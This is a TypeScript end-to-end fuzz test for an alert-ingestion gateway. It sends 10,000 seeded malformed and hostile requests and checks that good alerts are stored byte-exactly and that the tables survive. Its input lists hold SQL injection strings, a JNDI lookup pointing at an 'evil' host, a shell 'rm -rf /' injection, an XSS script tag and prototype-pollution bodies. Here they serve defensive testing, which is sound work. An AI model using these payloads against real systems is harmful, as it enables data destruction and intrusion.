import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createE2eWorld, killAllHushProcesses, queryRows, startFleet, tableNames, waitFor, type E2eWorld, type HushProcess } from '../helpers/fleet.js';
import { prng } from '../helpers/prng.js';

/** mulberry32: a failing case is reproduced from the seed and its number. */

const SEED = 20_260_105;
const BAD_CASES = 10_000;

/** Valid service and rule names that are hostile to SQL, shells, templates and HTML: stored byte-exactly. */
const HOSTILE_NAMES = [
  "x'); DROP TABLE alerts; --",
  "Robert'); DROP TABLE decisions;--",
  "' OR '1'='1",
  'a\'b"c`d',
  "back\\slash\\' ; SELECT 1",
  'trailing backslash \\',
  '\\N',
  '\\0 \\x00 \\\\',
  '{x:String}',
  '${jndi:ldap://evil/a}',
  '%s%n%x%d',
  '<script>alert(1)</script>',
  'quote"in"side',
  'ünïcödé 🙂 服务 ﷽',
  "';SELECT sleep(3);--",
  '`; rm -rf / #',
  'null',
  '1e309',
];

/** Byte sequences that are not UTF-8 (the decoder turns them into U+FFFD). */
const INVALID_UTF8 = [[0xff], [0xc3, 0x28], [0xed, 0xa0, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80], [0xe2, 0x82], [0x80, 0x81], [0xc0, 0xaf]];
const RAW_MARK = 'RAWBYTES';

type Json = Record<string, unknown>;

interface Sent {
  route: string;
  body: Buffer;
  /** Item indexes that must be accepted (the rest must be rejected). */
  good: Map<number, { service: string; name: string; id?: string }>;
  bad: number;
  /** Exact status expected, when the case has one. */
  status?: number;
  token?: string | null;
  contentType?: string;
}

describe('bad-input sweep against the running gateway (10,000 seeded cases over real HTTP)', () => {
  let world: E2eWorld;
  let fleet: HushProcess;
  let tablesBefore: string[];

  beforeAll(async () => {
    world = createE2eWorld('sweep');
    fleet = await startFleet(world.env);
    tablesBefore = await tableNames(world.clickhouse);
  });

  afterAll(async () => {
    await killAllHushProcesses();
    await world?.dispose();
  });

  it('answers every case with 202 or a 4xx {code, message}, keeps every good alert beside bad ones, and stores hostile names byte-exactly', { timeout: 120_000 }, async () => {
    const r = prng(SEED);
    const int = (n: number) => Math.floor(r() * n);
    const pick = <T>(xs: readonly T[]): T => xs[int(xs.length)] as T;
    const startsAt = new Date(Date.now() - 3_600_000).toISOString();
    let goodSerial = 0;

    const goodNative = (): { item: Json; service: string; name: string; id: string } => {
      goodSerial += 1;
      const service = r() < 0.5 ? pick(HOSTILE_NAMES) : `svc-${int(40)}`;
      const name = r() < 0.3 ? pick(HOSTILE_NAMES) : `Rule${int(20)}`;
      const id = `good-${goodSerial}`;
      const item: Json = { id, source: 'sweep', name, service, severity: pick(['critical', 'error', 'warning', 'info']), status: 'firing', startsAt, summary: `ok ${pick(HOSTILE_NAMES)}`, labels: { team: pick(HOSTILE_NAMES), env: 'prod' }, value: r() * 100 };
      if (r() < 0.3) item.tenant = world.tenant;
      return { item, service, name, id };
    };

    /** One definite violation of the alert contract (DESIGN §2) applied to a good alert. */
    const badNative = (): unknown => {
      const { item } = goodNative();
      item.id = `bad-${int(1e9)}`;
      const required = ['source', 'name', 'service', 'severity', 'status', 'startsAt'] as const;
      const identity = ['source', 'name', 'service'] as const;
      switch (int(16)) {
        case 0: delete item[pick(required)]; return item;
        case 1: item[pick(required)] = pick([null, 42, -1.5, true, false, {}, [], ['a'], { $ne: 1 }]); return item;
        case 2: item.severity = pick(['fatal', 'CRITICAL', 'crit', '', ' critical', 3, 'page']); return item;
        case 3: item.status = pick(['open', 'FIRING', 'ok', '', 1, 'resolved ']); return item;
        case 4: item.startsAt = pick(['2024-13-45T99:99:99Z', 'yesterday', '', 1714564800000, '1714564800', '2024-05-01', '1899-01-01T00:00:00Z', '2024-05-01T12:00:00', 'NaN']); return item;
        case 5: item[pick(identity)] = 'x'.repeat(pick([257, 1000, 20_000])); return item;
        case 6: item.id = 'i'.repeat(pick([129, 5000])); return item;
        case 7: item.summary = pick(['x'.repeat(2049), '€'.repeat(700), '🙂'.repeat(600), 'y'.repeat(15_000)]); return item;
        case 8: item[pick(identity)] = pick(['a\u0000b', 'line\nbreak', 'tab\there', '\u001b[31mred', 'del\u007f', 'c1\u0085']); return item;
        case 9: item[pick(identity)] = pick(['\ud800abc', 'x\udc00', 'bad\ufffdtext', '   ', '']); return item;
        case 10: item[pick(identity)] = `${RAW_MARK}${int(INVALID_UTF8.length)}`; return item;
        case 11: item.tenant = pick(["x'); DROP TABLE alerts; --", 'Acme', '-lead', 'a'.repeat(65), 'ten ant', 'ténant', 42, '']); return item;
        case 12: item.labels = pick(['str', 5, [], { 'bad key': 'v' }, { k: 5 }, { k: null }, { '': 'v' }, { __proto__x: 1 }, { ok: 'v'.repeat(1025) }, Object.fromEntries(Array.from({ length: 65 }, (_, i) => [`l${i}`, 'v']))]); return item;
        case 13: item.value = pick(['12', 'NaN', {}, [], true]); return item;
        case 14: item.endsAt = pick(['2001-01-01T00:00:00Z', 'later', 5, true]); return item;
        default: return pick([42, 'alert', null, true, [], [[item]], 1.5]);
      }
    };

    const goodAlertmanager = (): { item: Json; service: string; name: string } => {
      goodSerial += 1;
      const service = pick(HOSTILE_NAMES);
      const name = r() < 0.5 ? pick(HOSTILE_NAMES) : `AmRule${int(10)}`;
      return { item: { status: 'firing', labels: { alertname: name, service, severity: pick(['critical', 'warning', 'info', 'page']), n: String(goodSerial) }, annotations: { summary: 'am ok' }, startsAt, endsAt: '0001-01-01T00:00:00Z', fingerprint: `amfp-${goodSerial}` }, service, name };
    };
    const badAlertmanager = (): unknown => {
      const { item } = goodAlertmanager();
      const labels = item.labels as Json;
      switch (int(8)) {
        case 0: delete labels.alertname; return item;
        case 1: delete labels.service; return item;
        case 2: labels.severity = pick(['urgent', '', 'CRIT!']); return item;
        case 3: item.startsAt = pick(['now', 0, '0001-01-01T00:00:00Z']); return item;
        case 4: item.status = pick(['pending', '', null]); return item;
        case 5: labels.service = pick(['\u0000', 'x'.repeat(300), '\ud800', '  ']); return item;
        case 6: item.labels = pick(['labels', [], { 'bad-key': 'v' }]); return item;
        default: return pick([null, 'alert', 7, []]);
      }
    };

    const encode = (body: unknown): Buffer => {
      let text = JSON.stringify(body);
      const parts: Buffer[] = [];
      // Splice raw non-UTF-8 bytes where a RAWBYTES<k> placeholder stands.
      const re = new RegExp(`${RAW_MARK}(\\d)`, 'g');
      let last = 0;
      for (const m of text.matchAll(re)) {
        parts.push(Buffer.from(text.slice(last, m.index), 'utf8'), Buffer.from(INVALID_UTF8[Number(m[1])] as number[]), Buffer.from('x'));
        last = (m.index ?? 0) + m[0].length;
      }
      parts.push(Buffer.from(text.slice(last), 'utf8'));
      text = '';
      return Buffer.concat(parts);
    };

    const cases: Sent[] = [];
    let bad = 0;
    const mixedBatch = (route: '/api/v1/alerts' | '/api/v1/alerts/alertmanager', nBad: number, nGood: number): void => {
      const slots = [...Array<boolean>(nBad).fill(false), ...Array<boolean>(nGood).fill(true)];
      for (let i = slots.length - 1; i > 0; i--) {
        const j = int(i + 1);
        [slots[i], slots[j]] = [slots[j] as boolean, slots[i] as boolean];
      }
      const good = new Map<number, { service: string; name: string; id?: string }>();
      const items = slots.map((isGood, index) => {
        if (route === '/api/v1/alerts') {
          if (!isGood) return badNative();
          const g = goodNative();
          good.set(index, { service: g.service, name: g.name, id: g.id });
          return g.item;
        }
        if (!isGood) return badAlertmanager();
        const g = goodAlertmanager();
        good.set(index, { service: g.service, name: g.name });
        return g.item;
      });
      const body = route === '/api/v1/alerts' ? items : { version: '4', status: 'firing', receiver: 'hush', groupLabels: {}, commonLabels: {}, commonAnnotations: {}, externalURL: 'http://am', alerts: items };
      cases.push({ route, body: encode(body), good, bad: nBad, status: nGood > 0 ? 202 : 400 });
      bad += nBad;
    };

    for (let i = 0; i < 90; i++) mixedBatch('/api/v1/alerts', 80, 20);
    for (let i = 0; i < 20; i++) mixedBatch('/api/v1/alerts/alertmanager', 50, 10);
    for (let i = 0; i < 10; i++) mixedBatch('/api/v1/alerts', 50, 0);

    // Single-request cases: whole bodies that are wrong.
    const single = (route: string, body: Buffer | string, extra: Partial<Sent> = {}): void => {
      cases.push({ route, body: typeof body === 'string' ? Buffer.from(body, 'utf8') : body, good: new Map(), bad: 1, ...extra });
      bad += 1;
    };
    const otherRoutes = ['/api/v1/alerts', '/api/v1/alerts/alertmanager', '/api/v1/alerts/pagerduty', '/api/v1/outcomes'];
    while (bad < BAD_CASES) {
      const route = pick(otherRoutes);
      switch (int(14)) {
        case 0: single(route, Buffer.from(Array.from({ length: 1 + int(300) }, () => int(256)))); break;
        case 1: single(route, JSON.stringify(goodNative().item).slice(0, 1 + int(60))); break;
        case 2: single('/api/v1/alerts', encode(badNative())); break;
        case 3: single('/api/v1/alerts', JSON.stringify({ ...goodNative().item, tenant: 'globex-other' }), { status: 403 }); break;
        case 4: single(route, JSON.stringify(goodNative().item), { token: pick([null, 'wrong-token-123', "x'); DROP TABLE alerts; --", 'Bearer', '']), status: 401 }); break;
        case 5: single(route, JSON.stringify(goodNative().item), { contentType: pick(['text/plain', 'application/x-www-form-urlencoded', 'application/xml']) }); break;
        case 6: single(route, pick(['', 'null', '[]', '{}', '"str"', '123', 'true', '[null]', '{"a":', '\ufeff{}'])); break;
        case 7: single('/api/v1/alerts/alertmanager', JSON.stringify(pick([{ version: '3', alerts: [] }, { version: '4', alerts: 'x' }, { version: 4, alerts: [] }, { version: '4' }, { version: '4', alerts: [], commonLabels: 'x' }, { version: '4', alerts: [badAlertmanager()] }]))); break;
        case 8: single('/api/v1/alerts/pagerduty', JSON.stringify(pick([
          { routing_key: 'k'.repeat(32), event_action: 'acknowledge', dedup_key: 'd' },
          { event_action: 'trigger' },
          { event_action: 'trigger', payload: { summary: 's', source: 'h', severity: 'bad' } },
          { event_action: 'resolve' },
          { event_action: 'trigger', dedup_key: 'd'.repeat(256), payload: { summary: 's', source: 'h', severity: 'info' } },
          { event_action: 'trigger', payload: { summary: 5, source: 'h', severity: 'info' } },
          { event_action: 'explode', payload: {} },
        ]))); break;
        case 9: single('/api/v1/outcomes', JSON.stringify(pick([
          { alertId: 'a', outcome: 'maybe', at: startsAt, source: 'human' },
          { outcome: 'noise', at: startsAt, source: 'human' },
          { alertId: 'a', outcome: 'noise', at: 'then', source: 'human' },
          { alertId: 'a', outcome: 'noise', at: startsAt, source: 'robot' },
          { alertId: "x'); DROP TABLE outcomes; --", outcome: 'noise', at: startsAt, source: 'human', tenant: "x'); DROP TABLE outcomes; --" },
        ]))); break;
        case 10: single(route, `${'['.repeat(5000)}${']'.repeat(5000)}`); break;
        case 11: single('/api/v1/alerts', JSON.stringify(Array.from({ length: 10_001 }, () => ({})))); break;
        case 12: single(route, JSON.stringify({ summary: 'z'.repeat(1_100_000) }), { status: 413 }); break;
        default: single('/api/v1/alerts', '{"labels":{"__proto__":{"polluted":"yes"}},"constructor":{"prototype":{"polluted":"yes"}}}'); break;
      }
    }
    expect(bad).toBe(BAD_CASES);

    const violations: string[] = [];
    const expectedGood = new Map<string, { service: string; name: string }>();
    let rejectedItems = 0;
    const send = async (c: Sent, n: number): Promise<void> => {
      const headers: Record<string, string> = { 'content-type': c.contentType ?? 'application/json' };
      const token = c.token === undefined ? world.token : c.token;
      if (token !== null) headers.authorization = `Bearer ${token}`;
      let res: Response;
      try {
        res = await fetch(`${fleet.gatewayUrl}${c.route}`, { method: 'POST', headers, body: c.body });
      } catch (thrown) {
        violations.push(`#${n} ${c.route}: request failed: ${String(thrown)}`);
        return;
      }
      const text = await res.text();
      let body: Json | undefined;
      try {
        body = JSON.parse(text) as Json;
      } catch {
        body = undefined;
      }
      const where = `#${n} ${c.route} ${c.body.subarray(0, 400).toString('utf8')} → ${res.status} ${text.slice(0, 300)}`;
      if (c.status !== undefined && res.status !== c.status) violations.push(`expected ${c.status}: ${where}`);
      if (res.status !== 202 && (res.status < 400 || res.status > 499)) violations.push(`not 202/4xx: ${where}`);
      if (res.status !== 202) {
        if (typeof body?.code !== 'string' || !body.code.startsWith('HUSH_ERR_') || typeof body.message !== 'string' || body.message === '') violations.push(`no {code,message}: ${where}`);
        if (c.good.size > 0) violations.push(`good alerts refused: ${where}`);
        return;
      }
      const accepted = (body?.accepted ?? []) as { index: number; id: string }[];
      const rejected = (body?.rejected ?? []) as { index: number; code: string; message: string; field: string }[];
      rejectedItems += rejected.length;
      const acceptedIdx = accepted.map((a) => a.index).sort((a, b) => a - b);
      const goodIdx = [...c.good.keys()].sort((a, b) => a - b);
      if (JSON.stringify(acceptedIdx) !== JSON.stringify(goodIdx)) violations.push(`accepted ${JSON.stringify(acceptedIdx)} ≠ good ${JSON.stringify(goodIdx)}: ${where}`);
      if (rejected.length !== c.bad) violations.push(`rejected ${rejected.length} ≠ bad ${c.bad}: ${where}`);
      for (const rej of rejected) {
        if (typeof rej.code !== 'string' || typeof rej.message !== 'string' || rej.message === '' || typeof rej.field !== 'string') violations.push(`rejection without code/message/field: ${JSON.stringify(rej).slice(0, 200)}`);
      }
      for (const a of accepted) {
        const g = c.good.get(a.index);
        if (!g) continue;
        if (g.id !== undefined && g.id !== a.id) violations.push(`accepted id ${a.id} ≠ sent ${g.id}`);
        expectedGood.set(a.id, { service: g.service, name: g.name });
      }
    };

    const started = Date.now();
    let next = 0;
    await Promise.all(
      Array.from({ length: 8 }, async () => {
        while (next < cases.length) {
          const n = next++;
          await send(cases[n] as Sent, n);
        }
      }),
    );
    const sendMs = Date.now() - started;
    expect(violations.slice(0, 20)).toEqual([]);
    expect(rejectedItems).toBe(90 * 80 + 20 * 50);
    expect(expectedGood.size).toBe(90 * 20 + 20 * 10);

    // The fleet survived and every good alert got its decision, hostile names intact to the byte.
    expect(fleet.alive).toBe(true);
    expect((await fleet.health()).status).toBe(200);
    await waitFor(async () => Number((await queryRows<{ n: number }>(world.clickhouse, 'SELECT count() AS n FROM decisions FINAL'))[0]?.n) >= expectedGood.size, {
      timeoutMs: 40_000,
      intervalMs: 250,
      what: () => `${expectedGood.size} decisions\n${fleet.tail()}`,
    });
    const stored = await queryRows<{ alert_id: string; service: string; name: string; tenant: string }>(world.clickhouse, 'SELECT alert_id, service, name, tenant FROM decisions FINAL');
    const mismatches = stored.filter((row) => {
      const g = expectedGood.get(row.alert_id);
      return !g || g.service !== row.service || g.name !== row.name || row.tenant !== world.tenant;
    });
    expect(mismatches.slice(0, 10)).toEqual([]);
    expect(stored.length).toBe(expectedGood.size);
    // Each table has its own batch writer: alert rows may land a flush after the decisions.
    const missingHostile = async (): Promise<string[]> => {
      const rows = await queryRows<{ service: string }>(world.clickhouse, 'SELECT DISTINCT service FROM alerts');
      const storedServices = new Set(rows.map((row) => row.service));
      return HOSTILE_NAMES.filter((name) => !storedServices.has(name));
    };
    await waitFor(async () => (await missingHostile()).length === 0, { timeoutMs: 30_000, intervalMs: 250, what: () => 'every hostile service name in alerts' });
    expect(await missingHostile()).toEqual([]);

    expect(await tableNames(world.clickhouse)).toEqual(tablesBefore);
    expect(tablesBefore).toEqual(expect.arrayContaining(['alerts', 'decisions', 'features', 'outcomes', 'models']));
    expect((await fleet.health()).status).toBe(200);
    expect(await fleet.stop()).toEqual({ code: 0, signal: null });
    expect(sendMs).toBeLessThan(60_000);
  });
});
